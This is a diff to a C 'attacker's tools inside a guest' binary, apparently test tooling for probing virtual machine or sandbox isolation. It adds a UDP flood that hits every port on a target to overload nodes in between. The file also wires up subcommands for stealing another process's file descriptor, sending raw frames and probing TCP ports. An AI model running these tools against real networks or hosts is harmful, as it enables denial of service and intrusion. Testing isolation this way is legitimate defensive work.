@@ -1,5 +1,5 @@
 /* An attacker's tools inside a guest, one static binary; setuid root when installed so.
-   sh WORDS | send IF HEX... | steal PID FD <bytes | tcp ADDR PORT... | xattr FILE NAME HEX */
+   sh WORDS | send IF HEX... | steal PID FD <bytes | tcp ADDR PORT... | flood ADDR | xattr FILE NAME HEX */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
 #include <errno.h>
@@ -66,6 +66,19 @@ static void try_port(const char *address, int port)
     close(fd);
 }
 
+/* Send a datagram to every UDP port: to a node between, each is a connection of its own. */
+static int flood(const char *address)
+{
+    struct sockaddr_in to = { .sin_family = AF_INET };
+    int fd = socket(AF_INET, SOCK_DGRAM, 0);
+    inet_pton(AF_INET, address, &to.sin_addr);
+    for (int port = 1; port < 65536; port++) {
+        to.sin_port = htons((unsigned short)port);
+        if (sendto(fd, "", 0, 0, (void *)&to, sizeof to) < 0) { perror("flood"); return 1; }
+    }
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
     unsigned char value[256];
@@ -75,6 +88,7 @@ int main(int argc, char **argv)
     if (!strcmp(argv[1], "send")) return send_frames(argv + 2);
     if (!strcmp(argv[1], "steal")) return steal(atoi(argv[2]), atoi(argv[3]));
     if (!strcmp(argv[1], "tcp")) { for (int i = 3; i < argc; i++) try_port(argv[2], atoi(argv[i])); return 0; }
+    if (!strcmp(argv[1], "flood")) return flood(argv[2]);
     if (!strcmp(argv[1], "xattr")) {
         if (setxattr(argv[2], argv[3], value, bytes(argv[4], value, sizeof value), 0)) { perror("setxattr"); return 1; }
         return 0;
